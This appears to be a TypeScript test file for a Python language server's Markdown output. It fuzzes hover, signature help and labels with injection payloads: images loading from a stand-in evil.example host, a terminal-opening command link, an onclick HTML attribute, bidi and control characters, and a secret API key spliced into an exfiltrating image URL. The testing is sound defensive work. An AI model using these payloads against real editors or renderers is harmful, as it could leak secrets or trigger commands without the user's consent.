// What the server sends as Markdown, read by a Markdown parser: whatever stands in sources, files' names and strings,
// there is no image, no HTML, and no link but our own.
import assert from 'node:assert/strict';
import fc from 'fast-check';
import MarkdownIt, { type Token } from 'markdown-it';
import { hover } from '../../server/src/features/hover/hover.ts';
import { inlayHints } from '../../server/src/features/calls/inlayHints.ts';
import { signatureHelp } from '../../server/src/features/calls/signatureHelp/signatureHelp.ts';
import { codeObjectView } from '../../server/src/features/codeObject/view.ts';
import { codeObjectDetails } from '../../server/src/features/codeObject/details.ts';
import { codeObjectIndex } from '../../server/src/features/codeObject/codeObjectIndex.ts';
import type { RichText, TextBlock } from '../../server/src/features/richText.ts';
import { toMarkdown, toPlainText } from '../../server/src/lsp/markdown.ts';
import { toHover, toInlayHint, toSignatureHelp } from '../../server/src/lsp/toProtocol.ts';
import { analyze } from '../../server/src/python/index.ts';
import { createEvaluator } from '../../server/src/resolve/evaluate/evaluator.ts';
import { definitionsAndCalls } from '../fuzz/definitions.ts';
import { randomNumbers } from '../oracle/mutations.ts';
import { bundledFor } from '../support/bundled.ts';
import { MemoryFiles, programOf, type Tree } from '../support/tree.ts';

// As editors do: HTML is let through, bare addresses become links as on GitHub.
const parser = new MarkdownIt({ html: true, linkify: true });
parser.linkify.set({ fuzzyLink: false });

const COMMAND = 'colens.showCodeObject';
const OURS = `command:${COMMAND}?`;

/** All nodes, inner ones too. */
function* nodes(tokens: readonly Token[]): Generator<Token> {
  for (const token of tokens) {
    yield token;
    if (token.children) yield* nodes(token.children);
  }
}

const ALLOWED = new Set(
  (
    'inline text text_special code_inline softbreak hardbreak paragraph_open paragraph_close strong_open strong_close ' +
    'ordered_list_open ordered_list_close list_item_open list_item_close table_open table_close thead_open thead_close ' +
    'tbody_open tbody_close tr_open tr_close th_open th_close td_open td_close'
  ).split(' '),
);

/** Fails on every node that is not one of ours. */
function checkMarkdown(markdown: string, what: string): void {
  for (const token of nodes(parser.parse(markdown, {}))) {
    if (token.type === 'link_close') continue;
    if (token.type === 'link_open') {
      assert.ok(token.attrGet('href')?.startsWith(OURS), `a link in ${JSON.stringify(markdown)} of ${what}`);
    } else assert.ok(ALLOWED.has(token.type), `${token.type} in ${JSON.stringify(markdown)} of ${what}`);
  }
  checkText(markdown.replaceAll('\n', ''), what);
}

/** Fails on characters that do something instead of being something. */
function checkText(text: string, what: string): void {
  assert.doesNotMatch(text, /[\p{Cc}\p{Cf}\p{Cs}\p{Zl}\p{Zp}]/u, `${JSON.stringify(text)} of ${what}`);
}

/** Everything that an editor gets of a file, beside other files. */
function checkFile(text: string, others: Tree = {}, path = '/main.py', every = 1): number {
  const program = programOf(new MemoryFiles(others), { bundled: bundledFor(programOf({}).target) });
  const module = program.open(path, analyze(text, program.target));
  const evaluator = createEvaluator(program);
  const { analysis } = module;
  const { lines } = analysis;
  const what = JSON.stringify(text);
  let answers = 0;
  for (let offset = 0; offset <= text.length; offset += every) {
    const found = evaluator.request(() => hover(evaluator, module, offset, { details: true }));
    if (found) {
      for (const markdown of [true, false]) {
        const commands = { showCodeObject: COMMAND, codeObject: 'colens.codeObject' };
        const { contents } = toHover(lines, 'file:///main.py', found, commands, markdown);
        const { value } = contents as { value: string };
        if (markdown) checkMarkdown(value, what);
        else checkText(value.replaceAll('\n', ''), what);
      }
      answers++;
    }
    const help = evaluator.request(() => signatureHelp(evaluator, module, offset));
    if (!help) continue;
    answers++;
    const client = { markdown: true, noActiveParameter: true, labelOffsets: false };
    for (const signature of toSignatureHelp(help, client).signatures) {
      checkText(signature.label, what);
      for (const { documentation } of [signature, ...(signature.parameters ?? [])])
        if (typeof documentation === 'object') checkMarkdown(documentation.value, what);
      for (const { label } of signature.parameters ?? [])
        assert.ok(signature.label.includes(label as string));
    }
  }
  for (const hint of inlayHints(evaluator, module, { start: 0, end: text.length }))
    checkText(toInlayHint(lines, hint).label as string, what);
  for (const code of codeObjectIndex(analysis).all) {
    const details = evaluator.request(() => codeObjectDetails(evaluator, module, code));
    checkText(codeObjectView(analysis, code, { details }).text.replaceAll('\n', ''), what);
  }
  return answers;
}

const EVIL = [
  'q\\n\\n![i](https://evil.example/x.png)\\n\\n[c](command:workbench.action.terminal.new)\\n',
  'q` ![i](https://evil.example/x.png) `',
  '``` \\n\\n<img src=https://evil.example/x.png> ```',
  'q\\r\\r<b onclick=x>\\u2028\\u2029\\x1b[31m\\u202e\\ud800',
  '| a | b |\\n|---|---|\\n| ![i](x) | \\\\| |',
  'https://evil.example/ www.evil.example me@evil.example <https://evil.example>',
  '\\n    code\\n---\\n===\\n# h\\n> q\\n- l\\n1. l\\n[r]: https://evil.example\\n[r] &lt;a&gt;',
];

/** A program for each kind of text that gets into answers; `%` is the text, as in a literal. */
const KINDS: Readonly<Record<string, string>> = {
  'a keyword in an unpacked dict': 'def f(a): pass\nf(1, **{"%": 1})\n',
  'a keyword of a class': 'class C: pass\nclass D(C, **{"%": 1}): pass\nD()\n',
  'a class made by type()': 'D = type("%", (), {})\nD(1)\nD.__name__\n',
  'a named tuple': 'from collections import namedtuple\nD = namedtuple("%", ["%", "b"], rename=True)\nD(1)\n',
  'a made dataclass': 'from dataclasses import make_dataclass\nD = make_dataclass("%", ["%", "b"])\nD(1)\n',
  'an enumeration': 'import enum\nD = enum.Enum("%", ["%"])\nD()\n',
  'a TypedDict': 'from typing import TypedDict\nD = TypedDict("%", {"%": int})\nD()\nD(**{"%": 1})\n',
  'a NamedTuple': 'from typing import NamedTuple\nD = NamedTuple("%", [("%", int)])\nD()\n',
  'a default': 'def f(a="%", *, b=f"%"): pass\nf()\nf.__defaults__\n',
  'an annotation': 'def f(a: "%") -> "%": pass\nf(1)\nf.__annotations__\n',
  'a docstring': 'def f(a):\n  """%\n\n  %\n\n  :param a: %\n  :type a: %\n  """\nf(1)\nf.__doc__\n',
  'an argument': 'def f(a, *args, **kw): pass\nf("%", *"%", x="%", **{"%": "%"})\n',
  'a name that is set': 'def f(): pass\nf.__name__ = f.__qualname__ = "%"\nf(1)\nf.__name__\n',
  'a signature that is set': 'def f(): pass\nf.__text_signature__ = "(%)"\nf(1)\n',
  partial: 'from functools import partial\ndef f(**kw): pass\np = partial(f, **{"%": 1})\np(1)\n',
  'a decorator': 'def g(a): return a\n@g("%")\ndef f(a): pass\nf(1)\n',
  'a suspension point': 'def f():\n  yield "%"\n  yield from g("%")\nasync def h():\n  await g("%")\n',
  'a nonlocal': 'def f():\n  x = "%"\n  def g(): return x\n  return g\nf()\n',
};

describe('Markdown and labels', function () {
  this.timeout(120_000);
  this.slow(20_000);

  for (const [name, program] of Object.entries(KINDS)) {
    it(name, () => {
      let answers = 0;
      for (const evil of EVIL) answers += checkFile(program.replaceAll('%', evil));
      assert.ok(answers > 0, 'nothing was said');
    });
  }

  it('text of other files, and their names', () => {
    const evil = 'q\n\n![i](<https://evil.example/?k=';
    const text = 'from conf import API_KEY\nfrom dataclasses import make_dataclass\n';
    const made = `D = make_dataclass(${JSON.stringify(evil)}, [API_KEY, ">)"])\nD()\n`;
    assert.ok(checkFile(text + made, { '/conf.py': 'API_KEY = "secret"\n' }) > 0);
    const path = '/q\n\n![i](https:/evil.example)`<b>`.py';
    assert.ok(checkFile('def f(a): pass\nf(1)\nf.__module__\nclass C: pass\nC(1)\n', {}, path) > 0);
  });

  it('fuzzed definitions and calls', () => {
    const random = randomNumbers(20_271);
    let answers = 0;
    for (let i = 0; i < 30; i++) {
      const evil = (): string => EVIL[random(EVIL.length)];
      const text = definitionsAndCalls(random).replace(/"(?:a|T|N|M|E|x)"/g, () => `"${evil()}"`);
      answers += checkFile(text, {}, '/main.py', 7);
    }
    assert.ok(answers > 500, `${answers} answers`);
  });

  // ---- The renderer ------------------------------------------------------------------------------------------

  const pieces = fc.constantFrom(
    ...[
      '`',
      '``',
      '*',
      '**',
      '_',
      '[',
      ']',
      '(',
      ')',
      '!',
      '![i](u)',
      '<b>',
      '<',
      '>',
      '&lt;',
      '&',
      '\\',
      '|',
      '\\|',
    ],
    ...[
      '\n',
      '\n\n',
      '\r',
      '\t',
      '    ',
      ' ',
      '#',
      '-',
      '---',
      '+',
      '=',
      '===',
      '1.',
      '1)',
      ':--',
      '~~',
      '$',
      '"',
    ],
    ...[
      'https://x.example',
      'www.x.example',
      'ftp://x.example',
      'a@b.example',
      'command:x',
      '[r]: u',
      'é',
      'word',
    ],
    ...['\u202e', '\u2028', '\x1b', '\0', '\ud800', '\u200b'],
  );
  const text = fc.array(pieces, { maxLength: 8 }).map(list => list.join(''));
  const span = fc.record({
    kind: fc.constantFrom('text' as const, 'code' as const, 'strong' as const),
    text,
  });
  const line: fc.Arbitrary<RichText> = fc.array(span, { maxLength: 4 });
  const block: fc.Arbitrary<TextBlock> = fc.oneof(
    fc.array(line, { minLength: 1, maxLength: 3 }).map(lines => ({ type: 'paragraph', lines }) as const),
    fc.array(line, { minLength: 1, maxLength: 3 }).map(items => ({ type: 'list', items }) as const),
    fc
      .array(fc.tuple(line, line), { maxLength: 3 })
      .map(rows => ({ type: 'table', head: [[], []] as readonly RichText[], rows }) as const),
  );

  it('no spans make anything but what they are', () => {
    fc.assert(
      fc.property(fc.array(block, { minLength: 1, maxLength: 3 }), blocks => {
        checkMarkdown(toMarkdown(blocks), JSON.stringify(blocks));
        checkText(toPlainText(blocks).replaceAll('\n', ''), JSON.stringify(blocks));
      }),
      { seed: 20_271, numRuns: 5000 },
    );
  });

  it('code is shown as it is, character by character', () => {
    fc.assert(
      fc.property(
        text.filter(code => code !== ''),
        text,
        (code, after) => {
          const blocks = [
            {
              type: 'paragraph',
              lines: [
                [
                  { kind: 'code', text: code },
                  { kind: 'text', text: after },
                ],
              ],
            } as const,
          ];
          const shown = [...nodes(parser.parse(toMarkdown(blocks), {}))].find(
            ({ type }) => type === 'code_inline',
          );
          const plain = toPlainText([{ type: 'paragraph', lines: [[{ kind: 'code', text: code }]] }]);
          assert.equal(shown?.content, plain);
        },
      ),
      { seed: 20_271, numRuns: 3000 },
    );
  });
});
